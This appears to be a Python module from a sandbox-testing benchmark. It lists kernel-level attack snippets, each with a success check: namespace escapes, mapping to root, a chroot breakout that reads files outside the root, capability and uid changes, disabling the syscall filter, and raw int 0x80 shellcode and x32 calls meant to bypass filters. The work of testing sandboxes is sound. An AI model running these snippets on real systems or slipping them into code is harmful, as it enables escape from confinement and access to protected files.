"""Attacks on the kernel's wide doors: namespaces, mounts, tracing, keys, old interfaces."""

from __future__ import annotations

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.belongings import (
    has_changed_root,
    has_left_namespaces,
    has_mounted,
    has_personality,
    has_privileges,
    is_unfiltered,
)
from benchmarks.attacks.own_word import says_it_worked
from benchmarks.attacks.sight import holds_named

_NEW_MOUNTS, _NEW_USER = 0x0002_0000, 0x1000_0000
_ALL_NEW = 0x0002_0000 | 0x0400_0000 | 0x0800_0000 | 0x1000_0000 | 0x4000_0000
_IN_OWN_MOUNTS = f"""
def alone():
    # Not to leave anything mounted on the machine where this is allowed.
    try:
        call("unshare", {_NEW_MOUNTS})
    except OSError:
        call("unshare", {_NEW_MOUNTS | _NEW_USER})
    call("mount", None, b"/", None, 0x44000, None)

def go_on():
    if attempt(lambda: alone() or True) or not BARE:
        inner()
"""
# mov eax, number; mov ebx, argument; push rbx; int 0x80; pop rbx; ret
_OLD_GATE = r"""
page = mmap.mmap(-1, 4096, prot=7)
HELD.append(page)
def old(number, argument):
    page.seek(0)
    page.write(b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", argument)
               + b"\xcd\x80\x5b\xc3")
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return run()
print("i386 unshare:", child(lambda: print(old(310, 0x10000000))))
"""
_X32 = (
    "def inner():\n"
    "    if libc.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_long(0x10000000)) < 0:\n"
    "        raise OSError(ctypes.get_errno(), 'x32')\n"
    "child(inner)"
)

KERNEL = (
    Attack(
        "unshare-user",
        "makes a user namespace, where it would be root",
        f"child(call, 'unshare', {_NEW_USER})",
        during=has_left_namespaces,
    ),
    Attack(
        "unshare-all-and-be-root",
        "makes namespaces of every kind one by one and maps itself to user 0 there",
        f"for one in ({_ALL_NEW}, 0x20000, 0x4000000, 0x8000000, 0x40000000):\n"
        "    child(call, 'unshare', one)\n"
        "def map_root():\n"
        f"    attempt(call, 'unshare', {_NEW_USER})\n"
        "    attempt(Path('/proc/self/setgroups').write_text, 'deny')\n"
        "    attempt(Path('/proc/self/uid_map').write_text, f'0 {os.getuid()} 1')\n"
        "child(map_root)",
        during=has_left_namespaces,
        place="construct",
    ),
    Attack(
        "clone-into-namespace",
        "forks straight into new namespaces",
        f"for one in ({_NEW_USER}, {_ALL_NEW}, 0x20000000 | {_NEW_USER}):\n"
        "    if attempt(call, 'clone', one | signal.SIGCHLD, 0, 0, 0, 0) == 0:\n"
        "        pause_for_ever()",
        during=has_left_namespaces,
    ),
    Attack(
        "setns",
        "enters the namespaces of process 1, of its parent and of processes outside",
        "def enter():\n"
        "    for pid in [1, os.getppid(), *others()]:\n"
        "        for kind in ('user', 'mnt', 'net', 'ipc', 'uts', 'cgroup'):\n"
        "            with contextlib.suppress(OSError):\n"
        "                call('setns', os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY), 0)\n"
        "def apart():\n"
        "    call('unshare', 0x4000000)\n"
        "    os.write(ready, b'x')\n"
        "    signal.pause()\n"
        "ask, ready = os.pipe()\n"
        "away = child(apart)\n"
        "os.close(ready)\n"
        "def follow():\n"
        "    attempt(enter)\n"
        "    os.read(ask, 1)\n"
        "    call('setns', os.open(f'/proc/{away}/ns/uts', os.O_RDONLY), 0)\n"
        "child(follow)",
        during=has_left_namespaces,
    ),
    Attack(
        "mount",
        "mounts a file system and binds folders over others",
        _IN_OWN_MOUNTS + "def inner():\n"
        "    os.makedirs(LABEL, exist_ok=True)\n"
        "    here = os.path.abspath(LABEL).encode()\n"
        "    attempt(call, 'mount', b'none', here, b'tmpfs', 0, None)\n"
        "    attempt(call, 'mount', b'/', here, None, 0x1000, None)\n"
        "    attempt(call, 'mount', b'proc', here, b'proc', 0, None)\n"
        "child(go_on)",
        during=has_mounted,
    ),
    Attack(
        "new-mount-calls",
        "opens a file system by the newer mount calls",
        "for kind in (b'tmpfs', b'proc', b'sysfs', b'cgroup2', b'ext4', b'overlay'):\n"
        "    attempt(lambda: HELD.append(call('fsopen', kind, 0)))",
        during=holds_named("fscontext", "[fs"),
    ),
    Attack(
        "pivot-root",
        "changes its root to a folder of its own",
        _IN_OWN_MOUNTS + "def inner():\n"
        "    os.makedirs(f'{LABEL}-root/old', exist_ok=True)\n"
        "    here = os.path.abspath(f'{LABEL}-root').encode()\n"
        "    Path(here.decode(), LABEL).touch()\n"
        "    call('mount', here, here, None, 0x1000, None)\n"
        "    call('pivot_root', here, here + b'/old')\n"
        "child(go_on)",
        during=has_changed_root,
    ),
    Attack(
        "chroot-and-back",
        "leaves a root by changing to one inside of it, and reads what lies outside",
        "def inner():\n"
        "    os.makedirs('inner', exist_ok=True)\n"
        "    Path('inner', LABEL).touch()\n"
        "    call('chroot', b'inner')\n"
        "    for _ in range(64):\n"
        "        os.chdir('..')\n"
        "    for file in WORLD['files']:\n"
        "        attempt(lambda: leak(Path(file[1:]).read_bytes(), file))\n"
        "    sys.stdout.flush()\n"
        "child(inner)",
        during=has_changed_root,
    ),
    Attack(
        "bpf",
        "makes a BPF map and loads a program",
        "attributes = struct.pack('IIII', 1, 4, 4, 4) + bytes(112)\n"
        "HELD.append(call('bpf', 0, attributes, len(attributes)))",
        during=holds_named("bpf"),
    ),
    Attack(
        "perf-events",
        "opens performance counters of itself, of others and of the whole machine",
        "for kind, what in ((1, 0), (1, 9), (0, 0)):\n"
        "    settings = struct.pack('IIQQQQQ', kind, 112, what, 0, 0, 0, 0x61) + bytes(64)\n"
        "    for pid, processor in ((0, -1), (VICTIM, -1), (-1, 0)):\n"
        "        attempt(lambda: HELD.append(call(\n"
        "            'perf_event_open', settings, pid, processor, -1, 0)))",
        during=holds_named("perf_event"),
    ),
    Attack(
        "io-uring",
        "sets up a ring that makes system calls no filter sees",
        "HELD.append(call('io_uring_setup', 4, ctypes.create_string_buffer(120)))",
        during=holds_named("io_uring"),
    ),
    Attack(
        "userfaultfd",
        "opens userfaultfd, by the call and by its device",
        "hold('/dev/userfaultfd', os.O_RDWR)\n"
        "for flags in (1, 0):\n"
        "    attempt(lambda: HELD.append(call('userfaultfd', flags)))",
        during=holds_named("[userfaultfd]"),
    ),
    Attack(
        "fanotify",
        "opens fanotify, which watches whole file systems",
        "for flags in (0, 0x200, 4):\n"
        "    attempt(lambda: HELD.append(call('fanotify_init', flags, 0)))",
        during=holds_named("fanotify"),
    ),
    Attack(
        "secret-memory",
        "takes memory that even the kernel cannot see",
        "HELD.append(call('memfd_secret', 0))",
        during=holds_named("secretmem"),
    ),
    Attack(
        "kexec",
        "asks for another kernel to be loaded, with more segments than there may be",
        "try:\n"
        "    call('kexec_load', 0, 1 << 20, None, 0)\n"
        "except OSError as error:\n"
        "    print(WORLD['label'], 'reached' if error.errno == errno.EINVAL else error)",
        after=says_it_worked,
    ),
    Attack(
        "personality",
        "turns address randomisation off and makes memory executable",
        "call('personality', 0x0440000)",
        during=has_personality,
    ),
    Attack(
        "modify-ldt",
        "writes a segment of its own into the processor's local table",
        "entry = struct.pack('IIII', 0, 0x1000, 0xFFFFF, 0x51)\n"
        "call('modify_ldt', 1, entry, len(entry))\n"
        "print(WORLD['label'], 'reached')",
        after=says_it_worked,
        needs="x86_64 only",
    ),
    Attack(
        "become-root",
        "sets its user, its groups and its capabilities",
        "def become():\n"
        "    attempt(os.setresuid, 0, 0, 0)\n"
        "    attempt(os.setgroups, [0])\n"
        "    attempt(os.setresgid, 0, 0, 0)\n"
        "    full = struct.pack('IIIIII', *[0xFFFFFFFF] * 6)\n"
        "    attempt(call, 'capset', struct.pack('Ii', 0x20080522, 0), full)\n"
        "    attempt(lambda: libc.prctl(38, 0, 0, 0, 0))\n"
        "child(become)",
        during=has_privileges,
    ),
    Attack(
        "be-unfiltered",
        "has a new program, a thread and an orphan run without the filter",
        "attempt(lambda: libc.prctl(22, 0, 0, 0, 0))\n"
        "HELD.append(subprocess.Popen(['/bin/sh', '-c', 'read x; :', LABEL],\n"
        "    stdin=subprocess.PIPE, env={}))\n"
        "child(lambda: None)",
        during=is_unfiltered,
    ),
    Attack(
        "old-gate",
        "makes the calls of 32-bit programs, by interrupt 0x80",
        _OLD_GATE,
        during=has_left_namespaces,
        needs="x86_64 only",
    ),
    Attack(
        "x32-calls",
        "makes the calls of the x32 interface, whose numbers are others",
        _X32,
        during=has_left_namespaces,
        needs="x86_64 only",
    ),
)
